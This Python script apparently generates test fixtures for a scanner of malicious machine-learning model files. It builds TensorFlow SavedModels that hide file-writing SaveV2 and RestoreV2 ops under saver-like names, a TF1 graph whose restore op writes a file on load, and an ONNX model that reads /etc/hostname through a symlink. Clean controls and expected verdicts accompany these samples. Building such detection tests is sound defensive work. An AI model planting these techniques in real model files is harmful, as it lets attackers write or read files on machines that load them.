#!/usr/bin/env python3
"""TensorFlow SavedModels whose checkpoint ops run outside the checkpoint machinery although their
function or node names look like the saver's, a clean TF 2.21 SavedModel with its fingerprint.pb,
and an ONNX model whose external data location onnx <= 1.12 reads from another file.

Needs an interpreter with tensorflow (2.21 used: tensorflow-cpu) and onnx (1.23 used), e.g. a venv:
`python3 -m venv v && v/bin/pip install tensorflow-cpu onnx`; /usr/bin/python3 has no TensorFlow.
Writes samples/tf-onnx-bypass/ and its expected.json. Every payload writes into /tmp/hto only
(SaveV2 to /tmp/hto/PWNED_*), and the script proves each one with the real loader:
`tf.saved_model.load(...).signatures["serving_default"](...)` writes the checkpoint file.

The ONNX sample needs a symbolic link (weights.bin -> /etc/hostname); onnx 1.12's
external_data_helper strips leading '/' and '.' from the location (`location.lstrip("/.")`), so
the model's `.weights.bin` is read from `weights.bin`.
"""

import glob
import json
import os
import shutil

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
import onnx  # noqa: E402
import tensorflow as tf  # noqa: E402
from onnx import TensorProto, helper  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
OUT = os.path.join(ROOT, "tf-onnx-bypass")
PWNED = "/tmp/hto"
EXPECTED = {}


def expect(rel, verdict, rules=(), absent=(), evidence=None):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    if evidence:
        entry["evidence"] = evidence
    EXPECTED[f"tf-onnx-bypass/{rel}"] = entry


def fresh(rel):
    path = os.path.join(OUT, rel)
    shutil.rmtree(path, ignore_errors=True)
    return path


def save_in(name, fn_name):
    """A tf.Module whose serving signature calls a function named `fn_name` that runs SaveV2."""
    target = f"{PWNED}/PWNED_{name}"

    def body(x):
        op = tf.raw_ops.SaveV2(
            prefix=tf.constant(target),
            tensor_names=tf.constant(["x"]),
            shape_and_slices=tf.constant([""]),
            tensors=[x],
        )
        with tf.control_dependencies([op]):
            return tf.identity(x * 2.0)

    body.__name__ = fn_name
    spec = [tf.TensorSpec([1], tf.float32)]
    helper_fn = tf.function(body, input_signature=spec)

    class M(tf.Module):
        pass

    m = M()
    setattr(m, fn_name, helper_fn)

    @tf.function(input_signature=spec)
    def serve(x):
        return getattr(m, fn_name)(x)

    m.serve = serve
    path = fresh(name)
    tf.saved_model.save(m, path, signatures={"serving_default": m.serve})
    prove_writes(path, target)
    return path


def prove_writes(path, target):
    for f in glob.glob(target + "*"):
        os.remove(f)
    tf.saved_model.load(path).signatures["serving_default"](x=tf.constant([1.0]))
    written = glob.glob(target + "*")
    assert written, f"{path}: nothing written at {target}"
    print(f"{path}: serving_default wrote {written}")
    for f in written:
        os.remove(f)


def restore_in(name, fn_name):
    """RestoreV2 of a checkpoint at a fixed path inside a function named like the restore function."""
    src = f"{PWNED}/PWNED_{name}_src"
    tf.raw_ops.SaveV2(
        prefix=tf.constant(src),
        tensor_names=tf.constant(["secret"]),
        shape_and_slices=tf.constant([""]),
        tensors=[tf.constant([42.0])],
    )
    spec = [tf.TensorSpec([1], tf.float32)]

    def body(x):
        (t,) = tf.raw_ops.RestoreV2(
            prefix=tf.constant(src),
            tensor_names=tf.constant(["secret"]),
            shape_and_slices=tf.constant([""]),
            dtypes=[tf.float32],
        )
        return x + t

    body.__name__ = fn_name

    class M(tf.Module):
        pass

    m = M()
    setattr(m, fn_name, tf.function(body, input_signature=spec))

    @tf.function(input_signature=spec)
    def serve(x):
        return getattr(m, fn_name)(x)

    m.serve = serve
    path = fresh(name)
    tf.saved_model.save(m, path, signatures={"serving_default": m.serve})
    out = tf.saved_model.load(path).signatures["serving_default"](x=tf.constant([1.0]))
    value = list(out.values())[0].numpy().tolist()
    assert value == [43.0], value
    print(f"{path}: serving_default read {src} ({value})")
    return path


def clean_tf2(name):
    class M(tf.Module):
        def __init__(self):
            super().__init__()
            self.v = tf.Variable([1.0, 2.0])

        @tf.function(input_signature=[tf.TensorSpec([2], tf.float32)])
        def serve(self, x):
            return {"y": x * self.v}

    m = M()
    path = fresh(name)
    tf.saved_model.save(m, path, signatures={"serving_default": m.serve})
    assert os.path.exists(os.path.join(path, "fingerprint.pb"))
    loaded = tf.saved_model.load(path)
    print(f"{path}: clean, {loaded.signatures['serving_default'](x=tf.constant([1.0, 1.0]))}")
    return path


def tf1(name, evil):
    """A graph-mode (TF1) SavedModel; the evil one hides SaveV2 in a `save_9/` name scope on the
    signature's path (a control dependency of its output)."""
    target = f"{PWNED}/PWNED_{name}"
    path = fresh(name)
    g = tf.Graph()
    with g.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [1], name="x")
        v = tf.compat.v1.get_variable("v", [1], initializer=tf.compat.v1.zeros_initializer())
        deps = []
        if evil:
            with tf.name_scope("save_9"):
                deps.append(
                    tf.raw_ops.SaveV2(
                        prefix=tf.constant(target),
                        tensor_names=tf.constant(["x"]),
                        shape_and_slices=tf.constant([""]),
                        tensors=[x],
                    )
                )
        with tf.control_dependencies(deps):
            y = tf.identity(x + v, name="y")
        builder = tf.compat.v1.saved_model.Builder(path)
        with tf.compat.v1.Session(graph=g) as s:
            s.run(tf.compat.v1.global_variables_initializer())
            sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(s, ["serve"], signature_def_map={"serving_default": sig})
        builder.save()
    if evil:
        for f in glob.glob(target + "*"):
            os.remove(f)
        with tf.compat.v1.Session(graph=tf.Graph()) as s:
            meta = tf.compat.v1.saved_model.load(s, ["serve"], path)
            sig = meta.signature_def["serving_default"]
            s.run(sig.outputs["y"].name, {sig.inputs["x"].name: [1.0]})
        written = glob.glob(target + "*")
        assert written, "TF1 graph wrote nothing"
        print(f"{path}: TF1 session run of serving_default wrote {written}")
        for f in written:
            os.remove(f)
    return path


def tf1_restore_writes(name):
    """TF1 graph whose SaverDef restore op also runs a SaveV2 in the save/ scope: the TF1 loader
    (tf.compat.v1.saved_model.load) runs the restore op at load, so loading writes the file."""
    target = f"{PWNED}/PWNED_{name}"
    path = fresh(name)
    g = tf.Graph()
    with g.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [1], name="x")
        v = tf.compat.v1.get_variable("v", [1], initializer=tf.compat.v1.zeros_initializer())
        y = tf.identity(x + v, name="y")
        saver = tf.compat.v1.train.Saver()
        restore_all = g.get_operation_by_name(saver.saver_def.restore_op_name)
        with tf.name_scope("save/"):
            evil = tf.raw_ops.SaveV2(
                prefix=tf.constant(target),
                tensor_names=tf.constant(["v"]),
                shape_and_slices=tf.constant([""]),
                tensors=[v.read_value()],
                name="SaveV2_extra",
            )
            restore = tf.group(restore_all, evil, name="restore_all_extra")
        saver.saver_def.restore_op_name = restore.name
        builder = tf.compat.v1.saved_model.Builder(path)
        with tf.compat.v1.Session(graph=g) as s:
            s.run(tf.compat.v1.global_variables_initializer())
            sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(
                s, ["serve"], signature_def_map={"serving_default": sig}, saver=saver
            )
        builder.save()
    for f in glob.glob(target + "*"):
        os.remove(f)
    with tf.compat.v1.Session(graph=tf.Graph()) as s:
        tf.compat.v1.saved_model.load(s, ["serve"], path)
    written = glob.glob(target + "*")
    assert written, "TF1 load wrote nothing"
    print(f"{path}: tf.compat.v1.saved_model.load wrote {written}")
    for f in written:
        os.remove(f)
    return path


def onnx_dot():
    path = fresh("onnx_dot_location")
    os.makedirs(path)
    t = TensorProto()
    t.name = "W"
    t.data_type = TensorProto.UINT8
    t.dims.append(8)
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", ".weights.bin"), ("length", "8")):
        e = t.external_data.add()
        e.key = k
        e.value = v
    node = helper.make_node("Identity", ["W"], ["Y"])
    g = helper.make_graph([node], "g", [], [helper.make_tensor_value_info("Y", TensorProto.UINT8, [8])], initializer=[t])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 13)])
    m.ir_version = 8
    with open(os.path.join(path, "model.onnx"), "wb") as f:
        f.write(m.SerializeToString())
    with open(os.path.join(path, ".weights.bin"), "wb") as f:
        f.write(b"\0" * 8)
    os.symlink("/etc/hostname", os.path.join(path, "weights.bin"))
    # onnx 1.12: open(os.path.join(base_dir, location.lstrip('/.'))) reads weights.bin (/etc/hostname);
    # checked with Debian bookworm's python3-onnx 1.12 by /tmp/hto/onnx112_proof.py
    return path


def main():
    os.makedirs(PWNED, exist_ok=True)
    os.makedirs(OUT, exist_ok=True)
    save_in("tf_save_in_traced_save_name", "helper_traced_save")
    expect(
        "tf_save_in_traced_save_name",
        "malicious",
        ["savedmodel/checkpoint-op"],
        ["savedmodel/malformed", "onnx/malformed"],
        {"op": "SaveV2"},
    )
    save_in("tf_save_in_save_fn_name", "evil_save_fn")
    expect("tf_save_in_save_fn_name", "malicious", ["savedmodel/checkpoint-op"], evidence={"op": "SaveV2"})
    restore_in("tf_restore_in_traced_restore_name", "helper_traced_restore")
    expect(
        "tf_restore_in_traced_restore_name",
        "suspicious",
        ["savedmodel/checkpoint-op"],
        evidence={"op": "RestoreV2"},
    )
    tf1("tf1_save_scope_on_signature", True)
    expect("tf1_save_scope_on_signature", "malicious", ["savedmodel/checkpoint-op"], evidence={"op": "SaveV2"})
    tf1_restore_writes("tf1_restore_op_writes")
    expect(
        "tf1_restore_op_writes",
        "malicious",
        ["savedmodel/checkpoint-op"],
        evidence={"op": "SaveV2", "node": "save/SaveV2_extra"},
    )
    tf1("tf1_clean", False)
    expect("tf1_clean", "clean", absent=["savedmodel/checkpoint-op"])
    clean_tf2("tf2_clean_with_fingerprint")
    expect("tf2_clean_with_fingerprint", "clean", absent=["onnx/malformed", "savedmodel/checkpoint-op"])
    onnx_dot()
    expect("onnx_dot_location", "malicious", ["onnx/external-data-symlink"])
    for p in glob.glob(f"{PWNED}/PWNED_*_src*"):
        os.remove(p)
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
